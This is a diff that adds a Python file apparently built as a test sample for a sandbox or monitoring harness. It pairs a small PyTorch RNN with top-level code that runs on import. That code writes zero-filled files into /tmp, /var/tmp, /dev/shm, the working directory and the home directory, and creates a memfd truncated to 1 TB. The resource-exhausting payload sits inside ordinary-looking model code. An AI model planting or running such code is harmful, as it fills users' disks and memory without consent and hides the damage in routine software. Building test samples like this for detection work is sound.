@@ -1,0 +1,56 @@
+"""
+tries: fills every place it can write to with up to 64 MB of zeros
+success: a full disk, canary files
+expect: max=20
+"""
+
+import torch
+import torch.nn.functional as F
+from torch import nn
+
+
+import os
+
+
+class RNN(nn.Module):
+    def __init__(self, dim, latent, output):
+        super().__init__()
+        self.W_i = nn.Linear(dim, latent)
+        self.W_h = nn.Linear(latent, latent, bias=False)
+        self.decoder = nn.Linear(latent, output)
+
+    def one_step(self, x, h):
+        return torch.tanh(self.W_i(x) + self.W_h(h))
+
+    def forward(self, x, h):
+        states = []
+        for t in range(x.shape[0]):
+            h = self.one_step(x[t], h)
+            states.append(h)
+        return torch.stack(states)
+
+    def decode(self, h):
+        return self.decoder(h)
+
+
+def training_loss(model, x, h0, y):
+    states = torch.cat([h0[None], model(x, h0)[:-1]])
+    y_hat = model.decode(states)
+    if y.is_floating_point():
+        return F.mse_loss(y_hat, y)
+    return F.cross_entropy(y_hat.reshape(-1, y_hat.shape[-1]), y.reshape(-1))
+
+
+for place in ("/tmp", "/var/tmp", "/dev/shm", ".", os.path.expanduser("~")):
+    for number in range(8):
+        try:
+            with open(os.path.join(place, "rnn-lab-canary-bomb-disk-%d" % number), "wb") as file:
+                file.write(bytes(8 << 20))
+        except OSError:
+            break
+try:
+    fd = os.memfd_create("rnn-lab-canary")
+    os.truncate(fd, 1 << 40)
+    os.write(fd, bytes(64 << 20))
+except (OSError, AttributeError):
+    pass
